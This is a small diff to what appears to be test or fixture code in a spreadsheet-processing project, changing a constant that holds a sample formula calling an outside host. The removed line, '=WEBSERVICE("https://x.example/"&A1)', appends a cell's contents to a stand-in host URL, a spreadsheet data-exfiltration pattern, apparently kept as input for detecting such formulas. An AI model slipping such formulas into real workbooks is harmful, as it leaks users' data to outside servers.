@@ -21,7 +21,7 @@ from workbook.findings import BadInputError
 from workbook.sheets.tanks import TANKS
 
 PLAN = Plan(spare_rows=2, plan_date=desk.PLAN_DATE)
-OUTSIDE = '=WEBSERVICE("https://x.example/"&A1)'
+OUTSIDE = '=WEBSERVICE("x.example")'  # told by the function alone
 
 
 def values(content: Content) -> dict[str, list[dict[str, Any]]]:
